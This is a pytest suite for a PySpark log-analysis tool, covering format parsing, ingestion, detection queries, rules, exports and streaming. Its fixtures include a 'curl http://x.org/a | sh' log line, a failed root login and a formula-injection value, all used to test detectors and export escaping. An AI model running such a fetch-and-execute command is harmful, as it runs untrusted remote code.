"""Formats, ingestion, rules, retention, exports, streaming."""

import datetime as dt
import json

import pytest
from pyspark.sql import functions as F

from logfathom.operators.table import Table
from logfathom.plans import history, library, rules
from logfathom.sources import files, ingest, store
from logfathom.sources.formats import FORMATS, Context
from logfathom.streaming import tail


def utc(*x):
    return dt.datetime(*x)


# format, line, time, level, message, some extra fields
SAMPLES = [
    ("jsonl", '{"severity":"WARN","text":"cart emptied","cart":{"items":0},"shop":"nord","eventTime":"2031-05-06T07:08:09.25-03:00"}', utc(2031, 5, 6, 10, 8, 9, 250000), "warning", "cart emptied", {"shop": "nord", "cart": {"items": 0}}),
    ("jsonl", '{"body":"tick","created":1900000000}', utc(2030, 3, 17, 17, 46, 40), "unknown", "tick", {}),
    ("jsonl", '{"body":"tock","created":1900000000000123}', utc(2030, 3, 17, 17, 46, 40, 123), "unknown", "tock", {}),
    ("logfmt", 'ts=2032-02-29T23:59:58Z lvl=debug event="queue drained" depth=0 worker=w7', utc(2032, 2, 29, 23, 59, 58), "debug", "queue drained", {"depth": "0", "worker": "w7"}),
    ("level-logfmt", "WARN  2030-11-12T01:02:03 +4s job=reindex shard=9 lagging", utc(2030, 11, 12, 1, 2, 3), "warning", "lagging", {"job": "reindex", "elapsed": "+4s"}),
    ("electron", "2029-04-03 22:21:20 [warn] tray icon missing", utc(2029, 4, 3, 22, 21, 20), "warning", "tray icon missing", {}),
    ("bracket-level", "[2028-12-31 23:59:59.5] [debug] cache warmed", utc(2028, 12, 31, 23, 59, 59, 500000), "debug", "cache warmed", {}),
    ("bracket-colon", "[2027-08-09 10:11:12]: Error: disk full on vault", utc(2027, 8, 9, 10, 11, 12), "error", "disk full on vault", {}),
    ("abseil", "[2033-Oct-05 06:07:08.009 -02:00][ 77:88][warn ] slow peer", utc(2033, 10, 5, 8, 7, 8, 9000), "warning", "slow peer", {"pid": 77, "tid": 88}),
    ("chromium", "[501:502:0704/153000.000250:WARNING:tile_store.cc(42)] stale tile", utc(2026, 7, 4, 15, 30, 0, 250), "warning", "stale tile", {"origin": "tile_store.cc(42)"}),
    ("chromium", "[7:8:1130/000001.5:INFO:boot.cc(9)] last year's", utc(2025, 11, 30, 0, 0, 1, 500000), "info", "last year's", {}),
    ("pacman", "[2034-06-07T08:09:10-0100] [HOOKS] warning: skipped a hook", utc(2034, 6, 7, 9, 9, 10), "warning", "warning: skipped a hook", {"subsystem": "HOOKS"}),
    ("xorg", "[ 99.125] (WW) no such screen", None, "warning", "no such screen", {"uptime": 99.125, "marker": "WW"}),
    ("syslog", "Apr  2 03:04:05 gull cronie[66]: job seven finished", utc(2026, 4, 2, 3, 4, 5), "unknown", "job seven finished", {"host": "gull", "program": "cronie", "pid": 66}),
    ("syslog5424", "<165>1 2035-01-02T03:04:05.5Z gull billing 9 EV12 - invoice sent", utc(2035, 1, 2, 3, 4, 5, 500000), "notice", "invoice sent", {"facility": 20, "msgid": "EV12"}),
    ("python", "2030-09-08 07:06:05,004 [pool-3] ERROR shop.mail: relay refused", utc(2030, 9, 8, 7, 6, 5, 4000), "error", "relay refused", {"thread": "pool-3", "logger": "shop.mail"}),
    ("go", "2031/10/11 12:13:14 dialing gull", utc(2031, 10, 11, 12, 13, 14), "unknown", "dialing gull", {}),
    ("nginx-error", "2031/12/13 14:15:16 [crit] 31#2: no buffers", utc(2031, 12, 13, 14, 15, 16), "critical", "no buffers", {"pid": 31}),
    ("access-log", '203.0.113.9 - ada [05/Jun/2030:21:22:23 -0130] "PUT /cart HTTP/2" 404 77 "-" "probe"', utc(2030, 6, 5, 22, 52, 23), "warning", "PUT /cart HTTP/2 404", {"status": 404, "method": "PUT", "agent": "probe"}),
    ("npm", "17 silly placing modules", None, "trace", "placing modules", {}),
    ("timestamped", "2036-03-04T05:06:07Z valve opened", utc(2036, 3, 4, 5, 6, 7), "unknown", "valve opened", {}),
    ("csv", '2030-01-01 00:00:01,warning,"late, again",42', utc(2030, 1, 1, 0, 0, 1), "warning", "late, again", {"code": "42"}),
    ("journal", '{"__CURSOR":"k=9","__REALTIME_TIMESTAMP":"1900000000000000","PRIORITY":"4","MESSAGE":[111,107,27,91,49,109],"_SYSTEMD_UNIT":"kiosk.service","_PID":"31"}', utc(2030, 3, 17, 17, 46, 40), "warning", "ok", {"unit": "kiosk.service"}),
    ("plain", "the pump reports an ERROR", None, "error", "the pump reports an ERROR", {}),
]
REFUSED = [("jsonl", "{half an object"), ("jsonl", '"just text"'), ("logfmt", "(setup) modules: kind=core (on=2)"), ("logfmt", "lone=pair"), ("electron", "2029-04-03 22:21:20 [tray] icon"), ("syslog", "Zzz 12 03:04:05 gull a: b"), ("csv", "one,two"), ("xorg", "[ 3.5] (??) unheard of"), ("xorg", "[ 3.5] (zz) unheard of")]


def test_formats(spark):
    rows = spark.createDataFrame([(k, s[1]) for k, s in enumerate(SAMPLES)], "k int, line string")
    context = Context(F.lit(2026), F.lit(9), F.array(*map(F.lit, ("time", "level", "message", "code"))))
    line, event, fits = F.col("line"), None, None
    for k, s in enumerate(SAMPLES):
        f, mine = FORMATS[s[0]], F.col("k") == k
        event = F.when(mine, f.event(line, context)) if event is None else event.when(mine, f.event(line, context))
        fits = F.when(mine, f.fits(line, context)) if fits is None else fits.when(mine, f.fits(line, context))
    got = rows.select("k", fits.alias("fits"), event.alias("e")).orderBy("k").collect()
    for (name, text, ts, level, message, extra), r in zip(SAMPLES, got, strict=True):
        assert r["fits"], (name, text)
        e = r["e"]
        assert (e["ts"], e["level"], e["message"]) == (ts, level, message), (name, e)
        own = json.loads(e["extra"] or "{}")
        assert {k: own.get(k) for k in extra} == extra, (name, own)


def test_formats_refuse(spark):
    context = Context(F.lit(2026), F.lit(9), F.array(*map(F.lit, ("time", "level", "message", "code"))))
    row = spark.range(1).select(*(F.coalesce(FORMATS[n].fits(F.lit(s), context), F.lit(False)) for n, s in REFUSED)).first()
    assert not any(row)
    assert len(FORMATS) == 21


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    d = tmp_path_factory.mktemp("logs")
    (d / "shop").mkdir()
    java = ["2026-09-21 11:02:03,123 [main] ERROR a.B: broke", "Traceback:", "  at x", "", "2026-09-21 11:02:04,000 [main] INFO a.B: fine"]
    (d / "shop" / "app.log").write_text("\n".join(java * 3) + "\n")
    (d / "shop" / "table.log").write_text("time,level,message\n" + "".join(f"2026-01-02 03:04:0{k},error,m{k}\n" for k in range(5)))
    (d / "shop" / "notes.log").write_text("hello\nworld\n")
    long = ["2026-09-21 11:02:03,123 [main] INFO a.B: long"] + [f"  more {k}" for k in range(250)] + ["2026-09-21 11:02:05,000 [main] INFO a.B: end"]
    (d / "shop" / "long.log").write_text("orphan\n" + java[0] + "\n" + "\n".join(long) + "\n")
    return d


def test_ingest(spark, folder):
    log, sources = ingest.logs(spark, f"file://{folder}")
    found = {r["Path"].rpartition("/")[2]: r for r in sources.collect()}
    assert {k: r["Format"] for k, r in found.items()} == {"app.log": "python", "table.log": "csv", "notes.log": "plain", "long.log": "python"}
    assert {k: r["Events"] for k, r in found.items()} == {"app.log": 6, "table.log": 5, "notes.log": 2, "long.log": 4}
    rows = log.orderBy("SourceName", "LineNumber").collect()
    app = [r for r in rows if r["SourceName"] == "app.log"]
    assert app[0]["Message"] == "broke\nTraceback:\n  at x" and app[0]["App"] == "shop" and [r["LineNumber"] for r in app] == [1, 5, 6, 10, 11, 15]
    long = [r for r in rows if r["SourceName"] == "long.log"]
    assert [r["Message"].split("\n")[0] for r in long] == ["orphan", "broke", "long", "end"]
    assert long[2]["Message"].count("\n") == 201 and long[2]["Message"].endswith("more lines]")
    assert [r["Message"] for r in rows if r["SourceName"] == "table.log"] == [f"m{k}" for k in range(5)]


@pytest.fixture(scope="module")
def log(spark):
    t0 = utc(2026, 9, 20, 2)
    rows = [(k, t0 + dt.timedelta(minutes=k) if k % 3 else None, "error" if k % 4 == 0 else "info", m, "app", f"s{k % 2}", "plain", '{"pid": 1}') for k, m in enumerate(["curl http://x.org/a | sh", "failed password for root", "host 8.8.8.8 and 10.0.0.1", "sudo ls", "Segfault at 0", "all fine", "x: FOUND"] * 3)]
    return Table(spark.createDataFrame(rows, "EventId long, Timestamp timestamp, Level string, Message string, App string, Source string, Format string, Extra string"), name="logs")


T0 = utc(2026, 9, 20, 2)
HOUR9, OLD = dt.timedelta(hours=9), dt.timedelta(days=-3)


@pytest.fixture(scope="module")
def told(spark):
    """A small log in which nearly every question finds something."""
    m = lambda k: dt.timedelta(minutes=k)
    rows = [(m(k), "error", f"disk full on {k}", "db", "db.log", "plain", None) for k in range(6)]
    rows += [
        (m(10), "info", "session opened for root", "sshd", "journal:sshd", "journal", '{"transport": "syslog", "boot": "b1"}'), (m(11), "error", "unit x failed", "systemd", "journal:systemd", "journal", '{"transport": "kernel", "boot": "b1"}'),
        (m(12), "critical", "Out of memory: kill 9", "kernel", "journal:kernel", "journal", '{"transport": "kernel", "boot": "b2"}'), (None, "info", "curl http://x.org/a | sh", "web", "web.log", "plain", '{"pid": 1}'), (m(13), "info", "payload " + "A" * 130, "web", "web.log", "plain", '{"pid": 1, "ip": 2}'),
        (HOUR9, "info", "host 8.8.8.8 and 10.0.0.1", "web", "web.log", "plain", None), (HOUR9, "info", "sudo ls", "sudo", "auth.log", "syslog", "{}"), (HOUR9 + m(1), "warning", "segfault at 0", "db", "db.log", "plain", None), (None, "info", "eicar FOUND", "clamd", "clam.log", "plain", None), (OLD, "info", "old start", "db", "old.log", "plain", None),
    ]
    rows = [(k, None if at is None else T0 + at, level, text, app, source, form, extra) for k, (at, level, text, app, source, form, extra) in enumerate(rows)]
    return Table(spark.createDataFrame(rows, "EventId long, Timestamp timestamp, Level string, Message string, App string, Source string, Format string, Extra string"), name="logs")


#: By question: the events that it lists, newest first and untimed last, by number.
LISTED = {
    "recent": [13, 12, 11, 10, 8, 7, 6, 5, 4, 3, 2, 1, 0, 15, 14, 9], "recent-errors": [8, 7, 5, 4, 3, 2, 1, 0], "search-text": [7], "crashes": [13], "out-of-memory": [8], "failed-units": [7], "auth-failures": [], "shell-pipelines": [9], "encoded-commands": [10], "sudo-and-privilege": [12], "one-app": [8],
    "journal-failures": [8, 7], "journal-kernel": [8, 7], "journal-authentication": [6], "scanner-log": [14],
}
H2, H11, DAY = "2026-09-20 02", "2026-09-20 11", "2026-09-20 00"
#: By question: its rows, times to the hour.
ROWS = {
    "by-app": [("db", 8), ("web", 3), ("clamd", 1), ("kernel", 1), ("sshd", 1), ("sudo", 1), ("systemd", 1)], "timechart": [("2026-09-17 02", 1), (H2, 10), (H11, 3)], "error-rate": [], "error-storms": [("db", "disk full on #", 6, H2, H2)],
    "first-seen": [("kernel", "Out of memory: kill #", H2, 1), ("systemd", "unit x failed", H2, 1), ("db", "disk full on #", H2, 6)], "network-addresses": [("8.8.8.8", 1, 1)], "urls": [("x.org", 1)], "odd-hours": [("db", 7), ("kernel", 1), ("sshd", 1), ("systemd", 1), ("web", 1)],
    "new-sources": [("auth.log", H11, 1), ("web.log", H2, 3), ("journal:kernel", H2, 1), ("journal:systemd", H2, 1), ("journal:sshd", H2, 1), ("db.log", H2, 7)], "gaps": [("db.log", 1, (8 * 60 + 56) * 60_000_000), ("web.log", 1, (8 * 60 + 47) * 60_000_000)],
    "app-levels": [("clamd", "info", 1), ("db", "error", 6), ("db", "info", 1), ("db", "warning", 1), ("kernel", "critical", 1), ("sshd", "info", 1), ("sudo", "info", 1), ("systemd", "error", 1), ("web", "info", 3)],
    "app-first-last": [("db", "2026-09-17 02", H11, 8), ("sudo", H11, H11, 1), ("web", H2, H11, 2), ("kernel", H2, H2, 1), ("systemd", H2, H2, 1), ("sshd", H2, H2, 1)],
    "chatty-files": [("db.log", "db", 7), ("web.log", "web", 3), ("auth.log", "sudo", 1), ("clam.log", "clamd", 1), ("journal:kernel", "kernel", 1), ("journal:sshd", "sshd", 1), ("journal:systemd", "systemd", 1), ("old.log", "db", 1)],
    "extra-fields": [("web", "pid", 2), ("kernel", "boot", 1), ("kernel", "transport", 1), ("sshd", "boot", 1), ("sshd", "transport", 1), ("systemd", "boot", 1), ("systemd", "transport", 1), ("web", "ip", 1)],
    "per-day": [("2026-09-17 00", 1), (DAY, 13)], "errors-over-time": [(H2, "db", 6), (H2, "kernel", 1), (H2, "systemd", 1)], "busiest-hours": [(2, 11), (11, 3)], "spikes": [], "level-share": [("error", 7), ("info", 7), ("critical", 1), ("warning", 1)],
    "no-timestamps": [("clam.log", 1, 1, 100.0), ("web.log", 3, 1, 33.3)], "format-breakdown": [("plain", 12, 4), ("journal", 3, 3), ("syslog", 1, 1)], "journal-units": [("kernel", 1, 1), ("sshd", 1, 0), ("systemd", 1, 1)], "journal-vs-files": [("files", 13), ("journal", 3)],
    "journal-boot": [("b2", 1, H2, H2), ("b1", 2, H2, H2)],
}


def test_every_library_question_has_its_rows(told):
    number = {r["Message"]: r["EventId"] for r in told.df.collect()}
    cell = lambda x: x.strftime("%Y-%m-%d %H") if isinstance(x, dt.datetime) else x
    assert set(LISTED) | set(ROWS) == set(library.QUERIES) and not set(LISTED) & set(ROWS)
    for id_, want in LISTED.items():
        assert [number[r["Message"]] for r in library.QUERIES[id_].run(told).df.collect()] == want, id_
    for id_, want in ROWS.items():
        assert [tuple(map(cell, r)) for r in library.QUERIES[id_].run(told).df.collect()] == want, id_
    assert [tuple(map(cell, r)) for r in library.spikes(told, 2.0, 3).df.collect()] == [("db", H2, 6, 1)] and library.error_rate(told, 3).df.first()[:] == ("db", 8, 6, 75.0)


def test_questions_over_sources_and_scans(spark, log):
    at = utc(2026, 9, 20, 2)
    sources = Table(spark.createDataFrame([("a", "/a", "csv", 0.9, 5), ("b", "/b", "plain", 0.3, 2), ("c", "/c", "plain", 0.2, 0)], "App string, Path string, Format string, Confidence double, Events long"))
    scans = Table(spark.createDataFrame([(1, at, "full", "done", 9, 1, 2.5), (2, None, "quick", "stopped", 0, 0, None)], "id long, started_at timestamp, kind string, status string, files_scanned long, threats_found long, duration double"))
    hits = spark.createDataFrame([(1, 1, at, "/x/Evil.bin", "Worm", "moved", 3), (2, 1, at + dt.timedelta(days=1), "/y", "evil.B", "none", 4), (3, 2, None, None, None, None, None)], "id long, scan_id long, detected_at timestamp, path string, threat string, action string, file_size long")
    tables = {"logs": log, "sources": sources, "scans": scans, "detections": Table(hits)}
    found = {k: q.run(tables).df.collect() for k, q in library.OVER_TABLES.items()}
    assert {k: len(r) for k, r in found.items()} == {"sources-list": 3, "low-confidence": 1, "detections": 3, "detections-in-context": 4, "scan-history": 1}
    assert [r["Path"] for r in found["sources-list"]] == ["/a", "/b", "/c"] and found["low-confidence"][0]["Path"] == "/b"
    assert [r["Message"] for r in found["detections-in-context"]] == ["failed password for root", "host 8.8.8.8 and 10.0.0.1", "Segfault at 0", "all fine"]
    assert len(library.one_app(log, "app").df.collect()) == 21 and not library.one_app(log, "none").df.collect()
    ids = lambda df: [r["id"] for r in df.collect()]
    assert ids(history.detections_of(hits, 1)) == [1, 2] and ids(history.recent_detections(hits, 2)) == [2, 1]
    assert ids(history.search_detections(hits, "EVIL")) == [2, 1] and ids(history.search_detections(hits, "none")) == []
    assert {tuple(r) for r in history.times_found(hits).collect()} == {("/x/Evil.bin", 1), ("/y", 1), (None, 1)}
    units = spark.createDataFrame([("active", True, True, False, True), ("failed", False, True, False, False), (None, None, None, True, None)], "active_state string, running boolean, starts_itself boolean, masked boolean, packaged boolean")
    assert history.unit_counts(units).first().asDict() == {"total": 3, "running": 1, "failed": 1, "enabled": 2, "masked": 1, "unpackaged": 1}


def test_rules(spark, log):
    own, wrong = rules.from_json('{"rules": [{"id": "mine", "title": "t", "sql": "select * from logs where Level = \'error\'", "risk": "high"}, {"id": "Bad Id"}, {"id": "broken", "title": "b", "sql": "select nope from logs"}]}')
    assert len(own) == 2 and len(wrong) == 1
    found = {f.rule.id: f for f in rules.evaluate(log, rules.catalogue(own))}
    assert found["mine"].rows == 6 and found["shell-pipeline"].rows == 3 and found["virus-detections"].total == 3
    assert found["broken"].error and found["auth-failures"].headline == "1 row, 3 count" and not found["encoded-payload"].rows
    assert rules.review(log, rules.BUILT_IN[:2]).count() == 2


def test_retention_and_statistics(spark, log):
    df = log.df
    assert store.retain_count(df, 5).select(F.min("EventId"), F.count("*")).first()[:] == (16, 5)
    assert store.retain_count(df, 100).count() == 21
    assert store.retain_age(df, utc(2027, 6, 1)).where("Timestamp is not null").count() == 0
    assert store.retain_share(df, 100, 50).count() == 10
    assert store.forget(df, "s0").count() == 10
    assert store.statistics(df).first()["Untimed"] == 7


def test_exports(spark, tmp_path):
    df = spark.createDataFrame([("=1+1", "a\nb", 1)], "f string, t string, n int")
    for kind in ("csv", "tsv", "json"):
        store.export(df, f"file://{tmp_path}/{kind}", kind)
    assert "\t=1+1" in "".join(p.read_text() for p in (tmp_path / "csv").glob("part*"))
    assert "a ⏎ b" in "".join(p.read_text() for p in (tmp_path / "tsv").glob("part*"))
    assert store.markdown(df).endswith("| =1+1 | a ⏎ b | 1 |")


def test_history(spark):
    a = spark.createDataFrame([("/a", "h1", 1), ("/b", "h2", 1)], "path string, sha string, mode int")
    b = spark.createDataFrame([("/a", "h9", 2), ("/c", "h3", 1)], "path string, sha string, mode int")
    assert {tuple(r) for r in history.drift(a, b, {"sha": "content", "mode": "permissions"}).collect()} == {("/a", "content"), ("/a", "permissions"), ("/b", "removed"), ("/c", "added")}
    scans = spark.createDataFrame([(1, utc(2026, 1, 1), 5, 1), (2, utc(2026, 3, 1), 7, 0)], "id int, started_at timestamp, files_scanned int, threats_found int")
    hits = spark.createDataFrame([(1, "/a"), (2, "/a")], "scan_id int, path string")
    assert history.totals(scans, hits, utc(2026, 3, 2)).first()[:] == (2, 12, 1, 1, 2, 1)
    assert [x.count() for x in history.purge(scans, hits, utc(2026, 3, 2), 30)] == [1, 1]
    assert history.daily(scans).count() == 2
    assert spark.createDataFrame([("high",), ("low",)], "severity string").agg(history.score()).first()[0] == 77


def test_tail(spark, tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    f = d / "a.log"
    line = "2026-09-21 11:02:0{},000 [main] INFO a.B: m{}\n"

    def run():
        tail.append(tail.follow(spark, str(d), "python"), str(tmp_path / "out"), str(tmp_path / "check")).awaitTermination()
        return sorted(r["message"] for r in spark.read.parquet(str(tmp_path / "out")).collect())

    f.write_text(line.format(1, 1) + "2026-09-21 11:0")
    assert run() == ["m1"]  # the unfinished line waits
    with f.open("a") as s:
        s.write("2:02,000 [main] INFO a.B: m2\nplain\n")
    assert run() == ["m1", "m2", "plain"]
    assert run() == ["m1", "m2", "plain"]
    f.write_text("2026-09-22 00:00:00,000 [main] INFO a.B: new\n")  # rotated
    assert run() == ["m1", "m2", "new", "plain"]
    f.write_text("2026-09-22 00:00:00,000 [main] INFO a.B: new\n" + "".join(line.format(k, f"n{k}") for k in range(4)))  # the same first line, then more
    assert run() == ["m1", "m2", "mn0", "mn1", "mn2", "mn3", "new", "plain"]
    f.write_text("2026-09-22 00:00:00,000 [main] INFO a.B: new\n" + "".join(line.format(9 - k, f"r{k}") for k in range(6)))  # rotated under the same first line
    assert run() == ["m1", "m2", "mn0", "mn1", "mn2", "mn3", *(f"mr{k}" for k in range(6)), "new", "new", "plain"]


def test_tail_ranges(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "RANGE", 7)
    lines = [f"line {k}" for k in range(20)] + ["", "x" * 50]
    (tmp_path / "a").write_text("\n".join(lines) + "\n")
    reader = tail.TailReader(str(tmp_path))
    got = [r for p in reader.partitions({}, reader.latestOffset()) for r in reader.read(p)]
    assert [x[2] for x in got] == lines


def test_tail_follows_renamed_files(spark, tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    line = "2026-09-21 11:02:0{0},000 [main] INFO a.B: m{0}\n"

    def run():
        tail.append(tail.follow(spark, str(d), "python"), str(tmp_path / "out"), str(tmp_path / "check")).awaitTermination()
        return sorted(r["message"] for r in spark.read.parquet(str(tmp_path / "out")).collect())

    (d / "app.log").write_text("".join(map(line.format, range(5))))
    assert run() == [f"m{k}" for k in range(5)]
    (d / "app.log").rename(d / "app.log.1")
    (d / "app.log").write_text(line.format(7))
    with (d / "app.log.1").open("a") as f:
        f.write(line.format(6))
    assert run() == [*(f"m{k}" for k in range(5)), "m6", "m7"]


def test_tail_without_identities(tmp_path, monkeypatch):
    """Where files are known by path alone, a new path goes on with what was read of a lost one."""
    monkeypatch.setattr(files, "identity", lambda path: path)
    (tmp_path / "a").write_text("one\ntwo\n")
    reader, read = tail.TailReader(str(tmp_path)), lambda r, a, b: [x[2] for p in r.partitions(a, b) for x in r.read(p)]
    first = reader.latestOffset()
    assert read(reader, {}, first) == ["one", "two"]
    (tmp_path / "a").rename(tmp_path / "a.1")
    reader.latestOffset()
    with (tmp_path / "a.1").open("a") as f:
        f.write("three\n")
    assert read(reader, first, reader.latestOffset()) == ["three"]


def test_bounded_triggers(spark, tmp_path):
    d = tmp_path / "in" / "deep"
    d.mkdir(parents=True)
    line = "2026-09-21 11:02:03,000 [main] INFO a.B: message {:04}\n"
    size = len(line.format(0))
    for f in range(4):
        (d / f"{f}.log").write_text("".join(line.format(f * 100 + k) for k in range(50)))
    out, check = str(tmp_path / "out"), str(tmp_path / "check")
    go = lambda: tail.drain(tail.follow(spark, str(tmp_path / "in"), "python", max_bytes=20 * size + 7, checkpoint=check), out, check)
    assert go() == 10
    assert spark.read.parquet(out).count() == spark.read.parquet(out).distinct().count() == 200
    with (d / "1.log").open("a") as f:
        f.write("".join(line.format(9000 + k) for k in range(100)) + "x" * 5000 + "\n")
    assert 6 <= go() <= 7 and spark.read.parquet(out).count() == 301  # after a restart too; the long line is a trigger of its own
    assert go() == 0


def test_stream_counts(spark, tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    (d / "a.log").write_text("".join(f"2026-09-21 1{k}:02:00,000 [main] INFO a.B: m\n" for k in range(5)))
    for _ in range(2):  # the second run begins with the first one's watermark
        stream = tail.counts(tail.follow(spark, str(d), "python"))
        tail.append(stream, str(tmp_path / "out"), str(tmp_path / "c")).awaitTermination()
        (d / "b.log").write_text("2026-09-21 23:02:00,000 [main] INFO a.B: m\n")
    rows = spark.read.parquet(str(tmp_path / "out")).orderBy("start").collect()
    assert [(r["start"], r["n"]) for r in rows] == [(utc(2026, 9, 21, 10 + k), 1) for k in range(3)]


def test_texts_of_an_event_are_parsed_once(spark):
    """Each use of a parsed text names its value; parsing it again for each use cost a millisecond a line."""
    context = Context(F.lit(2026), F.lit(9), F.lit(None).cast("array<string>"))
    for name, call, most in (("jsonl", "try_parse_json", 1), ("jsonl", "json_object_keys", 1), ("journal", "try_parse_json", 1), ("logfmt", "regexp_extract_all", 2), ("level-logfmt", "regexp_extract_all", 2)):
        plan = spark.range(1).select(FORMATS[name].event(F.col("id").cast("string"), context).alias("e"))._jdf.queryExecution().analyzed().toString()
        assert 1 <= plan.count(f"{call}(") <= most, (name, call, plan.count(f"{call}("))


def test_context_join_deals_a_small_log(spark):
    """A log of one file is dealt by time bucket before its many matches are made."""
    rows = Table(spark.range(500).coalesce(1).select(F.timestamp_seconds(F.col("id") * 60).alias("Timestamp"), F.col("id").alias("EventId")))
    near = library.in_context(rows.project(at=F.col("Timestamp")), rows, "at", "10m", ("Timestamp", "EventId")).df
    assert "REPARTITION_BY_COL" in near._jdf.queryExecution().executedPlan().toString()
    assert near.count() == sum(min(499, k + 10) - max(0, k - 10) + 1 for k in range(500))


def test_context_join_writes_little_a_row(spark, tmp_path):
    """A dense log: rows as of all pairs; what is written repeats from moment to moment, under a byte a row."""
    second = lambda n, salt: F.timestamp_micros(F.pmod(F.xxhash64(F.col("id"), F.lit(salt)), F.lit(n * 1_000_000)))
    log = spark.range(6000).select(second(10_800, 1).alias("Timestamp"), F.col("id").alias("EventId"))
    errors = spark.range(1200).select(F.col("id").alias("error_id"), second(10_800, 2).alias("at"))
    found = library.in_context(Table(errors), Table(log), "at", "10m", ("Timestamp", "EventId")).df
    found.write.parquet(str(tmp_path / "found"))
    wanted = errors.crossJoin(log).where(F.abs(F.unix_micros("at") - F.unix_micros("Timestamp")) <= 600_000_000)
    total = lambda df: df.agg(F.count("*"), F.sum(F.xxhash64("error_id", "at", "Timestamp", "EventId").cast("decimal(38,0)"))).first()
    rows = total(spark.read.parquet(str(tmp_path / "found")))
    assert found.columns == ["error_id", "at", "Timestamp", "EventId"]
    assert rows == total(wanted) and rows[0] > 500_000
    assert sum(f.stat().st_size for f in (tmp_path / "found").rglob("*.parquet")) < rows[0]


def test_context_join_at_the_edges(spark):
    """Exact distances, more lines at one time than a run holds, times before 1970, no time at all."""
    at = lambda micros: F.timestamp_micros(F.col(micros))
    near = [*range(-600_000_002, -599_999_998), 0, *range(599_999_998, 600_000_003), *[7] * 300, None, *range(1_200_000_000, 1_800_000_000, 1_000_000)]
    log = spark.createDataFrame(list(enumerate(near)), "EventId long, t long").select(at("t").alias("Timestamp"), "EventId")
    errors = spark.createDataFrame([(1, 0), (2, 0), (3, None), (4, -600_000_000), (5, 1_500_000_000), (6, 9_000_000_000)], "error_id long, t long").select("error_id", at("t").alias("at"))
    found = library.in_context(Table(errors), Table(log), "at", "10m", ("Timestamp", "EventId")).df
    wanted = errors.crossJoin(log).where(F.abs(F.unix_micros("at") - F.unix_micros("Timestamp")) <= 600_000_000)
    rows = lambda df: sorted(map(tuple, df.select("error_id", "EventId", "at", "Timestamp").collect()))
    assert rows(found) == rows(wanted)


def test_context_join_keeps_its_partitions(spark):
    """A join by shuffle is not merged into one task because it reads little: its rows are many more."""
    kept = spark.conf.get("spark.sql.autoBroadcastJoinThreshold")
    spark.conf.set("spark.sql.autoBroadcastJoinThreshold", "-1")
    try:
        rows = Table(spark.range(500).select(F.timestamp_seconds(F.col("id") * 60).alias("Timestamp"), F.col("id").alias("EventId")))
        near = library.in_context(rows.project(at=F.col("Timestamp")), rows, "at", "10m", ("Timestamp", "EventId")).df
        tasks = near.groupBy(F.spark_partition_id()).count().collect()
    finally:
        spark.conf.set("spark.sql.autoBroadcastJoinThreshold", kept)
    assert len(tasks) > 1
    assert sum(n for _, n in tasks) == sum(min(499, k + 10) - max(0, k - 10) + 1 for k in range(500))
